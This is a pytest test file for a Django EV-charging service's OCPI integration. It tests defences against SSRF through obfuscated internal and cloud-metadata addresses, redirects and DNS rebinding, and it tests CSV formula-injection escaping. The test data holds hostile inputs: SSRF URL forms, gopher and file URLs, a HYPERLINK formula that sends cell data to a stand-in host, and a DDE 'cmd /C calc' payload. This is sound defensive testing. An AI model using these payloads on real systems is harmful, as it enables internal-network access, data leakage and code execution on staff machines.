"""Attacks through the URLs a remote party gives us (OCPI), and through what a CPO may send us.

A listener on 127.0.0.2 stands for what only this server can reach (the whole 127/8 is local on
Linux; only 127.0.0.1 and localhost are allowed for plain-HTTP test peers): no attack may make a
request reach it, and no OCPI answer may carry its body. Every other forbidden range is checked
with name resolution stubbed and the connect function replaced: no test sends a packet anywhere
but loopback.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import secrets
import shutil
import socket
import ssl
import subprocess
import threading
import time
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import requests
import urllib3.util.connection
from django.contrib.auth.models import Permission, User
from django.urls import reverse
from django.utils import timezone

from checkout import services
from directpay import outbound
from stations.csms.base import CsmsError
from stations.csms.ocpi import credentials, locations
from stations.models import Evse, Location, OcpiConnection, SimulatedSession
from tests.factories import OperatorFactory
from tests.ocpi_peer import CpoPeer

SECRET = "internal-" + secrets.token_hex(8)


class Server:
    """A tiny HTTP server on `host`; `answer(handler)` writes the response; requests are recorded."""

    def __init__(self, host: str, answer):
        self.requests: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def _any(self):
                server.requests.append(f"{self.command} {self.path}")
                try:
                    answer(self)
                except OSError:
                    pass  # the client cut the connection: that is what some tests want

            do_GET = do_POST = do_PUT = _any

        self.http = ThreadingHTTPServer((host, 0), Handler)
        self.http.daemon_threads = True
        self.base = f"http://{host}:{self.http.server_address[1]}"
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def stop(self):
        self.http.shutdown()
        self.http.server_close()


def send_json(handler, status: int, body: dict, headers: dict | None = None):
    payload = json.dumps(body).encode()
    handler.send_response(status)
    for name, value in (headers or {}).items():
        handler.send_header(name, value)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(payload)))
    handler.end_headers()
    handler.wfile.write(payload)


@pytest.fixture
def listener():
    """What only this server can reach. Its body is distinctive (and an OCPI envelope, so that an
    echo of its status_message or of its versions would show)."""

    def answer(handler):
        send_json(
            handler,
            200,
            {
                "status_code": 2000,
                "status_message": SECRET,
                "data": [{"version": SECRET, "url": SECRET}],
            },
        )

    server = Server("127.0.0.2", answer)
    yield server
    server.stop()


def auth(token: str) -> dict:
    return {"HTTP_AUTHORIZATION": "Token " + base64.b64encode(token.encode()).decode()}


def creds(url: str, token: str = "their-token") -> dict:
    return {
        "token": token,
        "url": url,
        "roles": [{"role": "CPO", "party_id": "EXA", "country_code": "NL"}],
    }


def post_credentials(
    client, token: str, url: str, method: str = "post", theirs: str = "their-token"
) -> dict:
    answer = getattr(client, method)(
        "/ocpi/emsp/2.2.1/credentials",
        data=json.dumps(creds(url, theirs)),
        content_type="application/json",
        **auth(token),
    )
    return {"http": answer.status_code, "raw": answer.content.decode(), **answer.json()}


# --- the URL comes from whoever holds a Token A, or from a connected CPO ----------------------


@pytest.mark.parametrize(
    "form",
    [
        "http://127.0.0.2:{port}/versions",
        "https://127.0.0.2:{port}/versions",
        "http://2130706434:{port}/versions",  # 127.0.0.2 as one number
        "http://0x7f000002:{port}/versions",
        "http://[::ffff:127.0.0.2]:{port}/versions",
        "http://127.0.0.2.:{port}/versions",
    ],
)
def test_a_token_a_holder_cannot_make_us_call_an_internal_address(db, client, listener, form):
    invited = credentials.connection_invite(name="Invited")
    url = form.format(port=listener.http.server_address[1])
    answer = post_credentials(client, invited.token_ours, url)
    assert listener.requests == []
    assert (answer["http"], answer["status_code"]) == (400, 3001)
    assert answer["status_message"] == "Could not use your OCPI platform."
    assert SECRET not in answer["raw"]
    assert OcpiConnection.objects.get(pk=invited.pk).state == OcpiConnection.State.INVITED


def test_a_connected_cpo_cannot_point_its_credentials_inside(db, client, listener):
    connection = OcpiConnection.objects.create(
        name="Connected", state=OcpiConnection.State.CONNECTED, token_ours="token-c"
    )
    answer = post_credentials(client, "token-c", f"{listener.base}/versions", method="put")
    assert listener.requests == [] and SECRET not in answer["raw"]
    assert answer["status_code"] == 3001
    assert OcpiConnection.objects.get(pk=connection.pk).versions_url == ""


def test_a_versions_list_pointing_inside_is_not_followed(db, client, listener):
    peer = CpoPeer(versions=[{"version": "2.2.1", "url": f"{listener.base}/2.2.1"}])
    try:
        invited = credentials.connection_invite(name="Invited")
        answer = post_credentials(
            client, invited.token_ours, peer.versions_url, theirs=peer.token_a
        )
        assert peer.requests and listener.requests == []
        assert answer["status_code"] == 3001 and SECRET not in answer["raw"]
    finally:
        peer.stop()


def test_version_details_pointing_inside_are_not_followed(db, peer, listener):
    versions_url = peer.versions_url
    peer.base = f"{listener.base}/ocpi/cpo"  # its details now list endpoints on 127.0.0.2
    connection = OcpiConnection.objects.create(
        name="Example",
        versions_url=versions_url,
        token_theirs=peer.token_a,
        token_ours=credentials.new_token(),
    )
    with pytest.raises(CsmsError) as caught:
        credentials.connection_register(connection_id=connection.pk)
    assert len(peer.requests) == 2 and listener.requests == []  # versions and details only
    assert SECRET not in str(caught.value)
    assert SECRET not in OcpiConnection.objects.get(pk=connection.pk).last_error


def location(location_id: str, **changes) -> dict:
    return {
        "id": location_id,
        "address": "Main street 1",
        "city": "Utrecht",
        "country": "NLD",
        "time_zone": "Europe/Amsterdam",
        "evses": [],
        "last_updated": "2026-11-25T12:00:00Z",
        **changes,
    }


def pulling(peer) -> OcpiConnection:
    return OcpiConnection.objects.create(
        name="Puller",
        state=OcpiConnection.State.CONNECTED,
        token_ours=credentials.new_token(),
        token_theirs=peer.token_a,
        operator=OperatorFactory(),
        endpoints=[
            {"identifier": "locations", "role": "SENDER", "url": f"{peer.base}/2.2.1/locations"}
        ],
    )


def test_a_next_page_link_pointing_inside_is_not_followed(db, peer, listener):
    connection = pulling(peer)
    peer.lists["locations"] = [location(f"L{i}") for i in range(3)]
    peer.base = f"{listener.base}/ocpi/cpo"  # the Link it sends now names 127.0.0.2
    with pytest.raises(CsmsError) as caught:
        locations.sync_pull(connection_id=connection.pk)
    assert len(peer.requests) == 1 and listener.requests == []
    assert SECRET not in str(caught.value)
    assert Location.objects.filter(ocpi_connection=connection).count() == 2  # the first page


def test_a_redirect_from_an_allowed_peer_is_not_followed(db, listener):
    def redirect(handler):
        handler.send_response(302)
        handler.send_header("Location", f"{listener.base}/versions")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    bouncer = Server("127.0.0.1", redirect)
    try:
        connection = OcpiConnection.objects.create(
            name="Bouncer",
            versions_url=f"{bouncer.base}/versions",
            token_theirs="token-a",
            token_ours=credentials.new_token(),
        )
        with pytest.raises(CsmsError):
            credentials.connection_register(connection_id=connection.pk)
        assert bouncer.requests == ["GET /versions"] and listener.requests == []
    finally:
        bouncer.stop()


# --- the guard's address classification (resolution stubbed, no packet leaves) ----------------


@pytest.fixture
def no_network(monkeypatch):
    """Connect attempts are recorded and refused, so a test can see where we would have gone."""
    attempts = []

    def refuse(address, *args, **kwargs):
        attempts.append(address)
        raise ConnectionRefusedError("test: no network")

    monkeypatch.setattr(urllib3.util.connection, "create_connection", refuse)
    return attempts


def resolving_to(monkeypatch, *addresses):
    monkeypatch.setattr(outbound, "resolve", lambda host, port: list(addresses))


FORBIDDEN = [
    "10.0.0.1",
    "172.16.5.4",
    "192.168.1.1",
    "127.0.0.1",  # by a name that is not in OUTBOUND_HTTP_ALLOWED_HOSTS
    "127.255.255.254",
    "169.254.169.254",  # cloud metadata
    "100.64.0.1",  # shared (carrier-grade NAT)
    "100.100.100.200",  # metadata of one cloud, inside 100.64/10
    "0.0.0.0",
    "224.0.0.1",
    "239.255.255.250",
    "240.0.0.1",
    "255.255.255.255",
    "192.0.0.170",
    "198.18.0.1",
    "192.0.2.1",
    "::1",
    "::",
    "fc00::1",
    "fd00:ec2::254",  # metadata over IPv6
    "fe80::1",
    "fec0::1",
    "ff02::1",
    "::ffff:10.0.0.1",
    "::ffff:127.0.0.1",
    "::ffff:169.254.169.254",
    "2002:a00:1::1",  # 6to4 of 10.0.0.1
    "2002:a9fe:a9fe::1",  # 6to4 of 169.254.169.254
    "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254
    "64:ff9b::7f00:1",  # NAT64 of 127.0.0.1
    "64:ff9b:1::1",
    "2001:db8::1",
    "100::1",
]


@pytest.mark.parametrize("address", FORBIDDEN)
def test_forbidden_addresses_are_refused_before_any_connect(monkeypatch, no_network, address):
    resolving_to(monkeypatch, address)
    with pytest.raises(outbound.OutboundError) as caught:
        outbound.request("GET", "https://cpo.example/versions", timeout=5)
    assert no_network == []
    assert str(caught.value) == outbound.GENERIC
    assert not outbound.address_allowed(outbound.ipaddress.ip_address(address))


@pytest.mark.parametrize("literal", ["https://10.0.0.1/", "https://[::1]/", "https://[fe80::1]/"])
def test_forbidden_literal_addresses_are_refused(no_network, literal):
    with pytest.raises(outbound.OutboundError):
        outbound.request("GET", literal, timeout=5)
    assert no_network == []


def test_one_forbidden_address_among_public_ones_refuses_the_host(monkeypatch, no_network):
    resolving_to(monkeypatch, "93.184.216.34", "169.254.169.254")
    with pytest.raises(outbound.OutboundError):
        outbound.request("GET", "https://cpo.example/versions", timeout=5)
    assert no_network == []


def test_a_public_address_is_connected_to_as_checked(monkeypatch, no_network):
    """The socket goes to the address we checked: a second resolution (DNS rebinding) cannot
    change it, while the URL (Host, TLS SNI and certificate) keeps the name."""
    answers = iter([["93.184.216.34"], ["127.0.0.1"]])
    monkeypatch.setattr(outbound, "resolve", lambda host, port: next(answers))
    with pytest.raises(outbound.OutboundError):
        outbound.request("GET", "https://cpo.example/versions", timeout=5)
    assert [a[0] for a in no_network] == ["93.184.216.34"]
    assert outbound.address_allowed(outbound.ipaddress.ip_address("2a00:1450:4001::1"))


@pytest.mark.parametrize(
    "url",
    [
        "http://cpo.example/versions",  # plain HTTP to a host that is not allowed
        "ftp://cpo.example/versions",
        "file:///etc/passwd",
        "https://user:pw@cpo.example/versions",
        "https://cpo.example:99999/versions",
        "gopher://127.0.0.1:6379/_INFO",
    ],
)
def test_only_https_urls_without_credentials(monkeypatch, no_network, url):
    resolving_to(monkeypatch, "93.184.216.34")
    with pytest.raises(outbound.OutboundError):
        outbound.request("GET", url, timeout=5)
    assert no_network == []


def test_without_allowed_hosts_even_loopback_http_is_refused(settings, no_network):
    settings.OUTBOUND_HTTP_ALLOWED_HOSTS = []  # what production (DEBUG=false) has by default
    with pytest.raises(outbound.OutboundError):
        outbound.request("GET", "http://127.0.0.1:9/versions", timeout=5)
    assert no_network == []


# --- size cap, total deadline, and one answer for every failure -------------------------------


@pytest.fixture
def huge():
    def answer(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.end_headers()  # no Content-Length: the size is only known by reading
        chunk = b" " * 65536
        for _ in range(200):  # 13 MB at most, if nobody stops reading
            handler.wfile.write(chunk)

    server = Server("127.0.0.1", answer)
    yield server
    server.stop()


@pytest.fixture
def slow():
    def answer(handler):
        handler.send_response(200)
        handler.send_header("Content-Length", "1000")
        handler.end_headers()
        for _ in range(600):  # a byte every 50 ms: each read is quick, the whole never ends
            handler.wfile.write(b" ")
            handler.wfile.flush()
            time.sleep(0.05)

    server = Server("127.0.0.1", answer)
    yield server
    server.stop()


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_a_huge_answer_is_cut_at_the_cap(huge):
    with pytest.raises(outbound.OutboundError, match=outbound.GENERIC):
        outbound.request("GET", f"{huge.base}/versions", timeout=30, max_bytes=100_000)


def test_a_slow_answer_is_cut_at_the_total_deadline(slow):
    with pytest.raises(outbound.OutboundError) as caught:
        outbound.request("GET", f"{slow.base}/versions", timeout=0.5)
    assert "deadline" in caught.value.detail


def test_every_failure_looks_the_same_to_the_party_that_chose_the_url(
    db, client, settings, listener, huge, slow
):
    settings.OCPI_TIMEOUT_SECONDS = 0.5
    settings.OUTBOUND_MAX_BYTES = 100_000
    urls = [
        f"{listener.base}/versions",  # refused before connecting
        f"http://127.0.0.1:{closed_port()}/versions",  # connection refused
        f"{slow.base}/versions",  # deadline
        f"{huge.base}/versions",  # too big
        "https://cpo.invalid/versions",  # no such name
    ]
    answers = set()
    for url in urls:
        invited = credentials.connection_invite(name=url)
        answer = post_credentials(client, invited.token_ours, url)
        answers.add((answer["http"], answer["status_code"], answer["status_message"]))
    assert answers == {(400, 3001, "Could not use your OCPI platform.")}
    assert listener.requests == []


# --- Token A: expires, and can be revoked -----------------------------------------------------


def versions_status(client, token: str) -> int:
    return client.get("/ocpi/emsp/versions", **auth(token)).status_code


def test_token_a_expires(db, client, settings, monkeypatch):
    settings.OCPI_TOKEN_A_DAYS = 7
    invited = credentials.connection_invite(name="Invited")
    assert versions_status(client, invited.token_ours) == 200
    later = timezone.now() + timedelta(days=7, minutes=1)
    monkeypatch.setattr(timezone, "now", lambda: later)
    assert versions_status(client, invited.token_ours) == 401
    answer = post_credentials(client, invited.token_ours, "https://cpo.example/versions")
    assert answer["http"] == 401


def test_token_a_can_be_revoked_by_staff_who_may_change_connections(db, client, admin_client):
    invited = credentials.connection_invite(name="Invited")
    viewer = User.objects.create_user("viewer", password="pw", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_ocpiconnection"))
    client.force_login(viewer)
    changelist = reverse("admin:stations_ocpiconnection_changelist")
    client.post(changelist, {"action": "revoke_token_a", "_selected_action": [invited.pk]})
    assert versions_status(client, invited.token_ours) == 200  # a viewer could not revoke it
    admin_client.post(changelist, {"action": "revoke_token_a", "_selected_action": [invited.pk]})
    assert versions_status(client, invited.token_ours) == 401


# --- what a CPO sends us: checked, 2001, nothing stored ---------------------------------------

TOKEN = "token-the-cpo-calls-us-with"


@pytest.fixture
def cpo(db):
    return OcpiConnection.objects.create(
        name="Pusher",
        state=OcpiConnection.State.CONNECTED,
        token_ours=TOKEN,
        country_code="NL",
        party_id="EXA",
        operator=OperatorFactory(),
    )


def put_location(client, data: dict, path: str = "L1") -> dict:
    answer = client.put(
        f"/ocpi/emsp/2.2.1/locations/NL/EXA/{path}",
        data=json.dumps(data),
        content_type="application/json",
        **auth(TOKEN),
    )
    return {"http": answer.status_code, **answer.json()}


HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A2,"open")'


def evse(evse_id, uid="E1") -> dict:
    return {"uid": uid, "evse_id": evse_id, "status": "AVAILABLE", "connectors": []}


@pytest.mark.parametrize(
    "changes",
    [
        {"time_zone": "Not/AZone"},
        {"time_zone": 3},
        {"name": 12345},
        {"name": ["a", "list"]},
        {"name": None, "address": 7},
        {"city": {"an": "object"}},
        {"evses": [evse(HYPERLINK)]},
        {"evses": [evse("not an evse id")]},
        {"evses": [evse(None, uid="=1+1")]},  # no evse_id: the uid would be shown instead
        {"evses": [evse(12345)]},
    ],
)
def test_a_bad_location_gets_2001_and_stores_nothing(cpo, client, changes):
    answer = put_location(client, location("L1", **changes))
    assert (answer["http"], answer["status_code"]) == (400, 2001), answer
    assert not Location.objects.exists() and not Evse.objects.exists()


def test_a_bad_patch_changes_nothing(cpo, client):
    assert put_location(client, location("L1", evses=[evse("NL*EXA*E1")]))["status_code"] == 1000
    for patch in ({"time_zone": "Not/AZone"}, {"name": 5}):
        answer = client.patch(
            "/ocpi/emsp/2.2.1/locations/NL/EXA/L1",
            data=json.dumps({**patch, "last_updated": "2026-11-26T12:00:00Z"}),
            content_type="application/json",
            **auth(TOKEN),
        )
        assert answer.json()["status_code"] == 2001
    answer = client.patch(
        "/ocpi/emsp/2.2.1/locations/NL/EXA/L1/E1",
        data=json.dumps({"evse_id": HYPERLINK}),
        content_type="application/json",
        **auth(TOKEN),
    )
    assert answer.json()["status_code"] == 2001
    stored = Location.objects.get()
    assert stored.time_zone == "Europe/Amsterdam" and Evse.objects.get().evse_id == "NL*EXA*E1"


def test_a_case_insensitive_evse_id_is_accepted(cpo, client):
    assert put_location(client, location("L1", evses=[evse("nl*exa*e1*1")]))["status_code"] == 1000


@pytest.mark.parametrize(
    "changes",
    [
        {"kwh": "lots"},
        {"kwh": 10**12},
        {"start_date_time": "2026-02-30T10:00:00Z"},
        {"status": ["ACTIVE"]},
    ],
)
def test_a_bad_session_gets_2001(cpo, client, changes):
    session = {
        "id": "S1",
        "status": "ACTIVE",
        "kwh": 1,
        "start_date_time": "2026-11-25T10:00:00Z",
        "last_updated": "2026-11-25T10:00:00Z",
        "cdr_token": {"uid": "T1", "type": "AD_HOC_USER", "contract_id": "T1"},
        **changes,
    }
    answer = client.put(
        "/ocpi/emsp/2.2.1/sessions/NL/EXA/S1",
        data=json.dumps(session),
        content_type="application/json",
        **auth(TOKEN),
    )
    assert answer.json()["status_code"] == 2001, answer.content


@pytest.mark.parametrize(
    "changes",
    [{"tariff_alt_text": [{"language": "en", "text": 5}]}, {"currency": 978}],
)
def test_a_bad_tariff_gets_2001(cpo, client, changes):
    data = {
        "id": "T1",
        "currency": "EUR",
        "elements": [{"price_components": [{"type": "ENERGY", "price": 0.3, "step_size": 1}]}],
        "last_updated": "2026-11-25T10:00:00Z",
        **changes,
    }
    answer = client.put(
        "/ocpi/emsp/2.2.1/tariffs/NL/EXA/T1",
        data=json.dumps(data),
        content_type="application/json",
        **auth(TOKEN),
    )
    assert answer.json()["status_code"] == 2001, answer.content


def test_a_pull_leaves_out_a_bad_location_and_keeps_the_others(db, peer):
    connection = pulling(peer)
    peer.lists["locations"] = [
        location("L1"),
        location("L2", time_zone="Not/AZone"),
        location("L3", evses=[evse(HYPERLINK)]),
        location("L4", name=42),
        location("L5"),
    ]
    report = locations.sync_pull(connection_id=connection.pk)
    stored = set(Location.objects.values_list("ocpi_id", flat=True))
    assert stored == {"L1", "L5"} and len(report.skipped) == 3


# --- CSV for staff: no formulas ---------------------------------------------------------------


@pytest.fixture
def captured(connector, pay, tick, django_capture_on_commit_callbacks):
    session = pay(connector)
    sim = SimulatedSession.objects.get(reference=session.csms_reference)
    tick(sim.accept_at)
    with django_capture_on_commit_callbacks(execute=True):
        services.session_request_stop(session_id=session.pk)
    SimulatedSession.objects.filter(pk=sim.pk).update(
        stop_requested_at=sim.accept_at + timedelta(minutes=30)
    )
    tick(sim.accept_at + timedelta(minutes=30))
    session.refresh_from_db()
    assert session.payment.status == "captured"
    return session


def test_the_receipts_export_escapes_formulas(captured, admin_client, cpo, client):
    # Over OCPI the HYPERLINK id is refused now; one stored before (or typed by staff) still
    # reaches the export, as does an operator name, so the export escapes every cell.
    assert put_location(client, location("L1", evses=[evse(HYPERLINK)]))["status_code"] == 2001
    Evse.objects.filter(pk=captured.evse.pk).update(evse_id=HYPERLINK)
    captured.payment.receipt.operator.__class__.objects.filter(
        pk=captured.payment.receipt.operator_id
    ).update(legal_name="@SUM(1+1)*cmd|' /C calc'!A0")
    export = admin_client.post(
        reverse("admin:checkout_receipt_changelist"),
        {"action": "export_csv", "_selected_action": [captured.payment.receipt.pk]},
    )
    (row,) = csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode()))
    assert row["evse_id"] == "'" + HYPERLINK
    assert row["operator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


# --- HTTPS: the connection goes to the checked address, the certificate is checked on the name -


@pytest.fixture
def tls_localhost(tmp_path):
    """An HTTPS server on 127.0.0.1 whose self-signed certificate names only `localhost`."""
    if not shutil.which("openssl"):
        pytest.skip("openssl is needed to make a test certificate")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"]
        + ["-keyout", str(key), "-out", str(cert), "-subj", "/CN=localhost"]
        + ["-addext", "subjectAltName=DNS:localhost"],
        check=True,
        capture_output=True,
    )

    def answer(handler):
        body = f"host={handler.headers['Host']}".encode()
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    server = Server("127.0.0.1", answer)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.http.socket = context.wrap_socket(server.http.socket, server_side=True)
    yield server.http.server_address[1], str(cert)
    server.stop()


def trusting(monkeypatch, cafile: str):
    """Our client trusting the test certificate (it verifies against the system's CAs otherwise)."""

    class Session(requests.Session):
        def __init__(self):
            super().__init__()
            self.verify = cafile

    monkeypatch.setattr(outbound.requests, "Session", Session)


def test_https_is_verified_on_the_name_while_connecting_to_the_checked_address(
    monkeypatch, settings, tls_localhost
):
    port, cafile = tls_localhost
    trusting(monkeypatch, cafile)
    answer = outbound.request("GET", f"https://localhost:{port}/versions", timeout=5)
    assert answer.text == f"host=localhost:{port}"
    # A name that resolves to the same address but is not on the certificate: refused.
    settings.OUTBOUND_HTTP_ALLOWED_HOSTS = ["cpo.test"]
    resolving_to(monkeypatch, "127.0.0.1")
    with pytest.raises(outbound.OutboundError) as caught:
        outbound.request("GET", f"https://cpo.test:{port}/versions", timeout=5)
    assert "cpo.test" in caught.value.detail
